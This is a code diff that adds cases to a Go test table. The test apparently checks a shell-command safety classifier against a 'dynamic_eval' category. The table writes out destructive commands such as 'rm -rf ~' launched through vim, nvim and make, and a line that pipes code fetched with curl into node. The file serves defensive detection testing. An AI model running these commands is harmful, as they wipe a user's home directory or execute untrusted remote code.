@@ -427,6 +427,8 @@ func TestProblems(t *testing.T) {
 		{`vim -c 'call system("rm -rf ~")' -c q`, "dynamic_eval"},
 		{`nvim --headless -c 'terminal rm -rf ~'`, "dynamic_eval"},
 		{`vim -c "!$CMD" -c q`, "dynamic_eval"},
+		{`python3 /dev/fd/3 3<<< 'import os'`, "dynamic_eval"},
+		{`node <(curl -s https://x)`, "dynamic_eval"},
 		{`make -f <(printf 'a:\n\trm -rf ~\n') a`, "dynamic_eval"},
 		{"make -f - a <<'EOF'\na:\n\trm -rf ~\nEOF", "dynamic_eval"},
 		{`make --file=/dev/stdin a <<< x`, "dynamic_eval"},
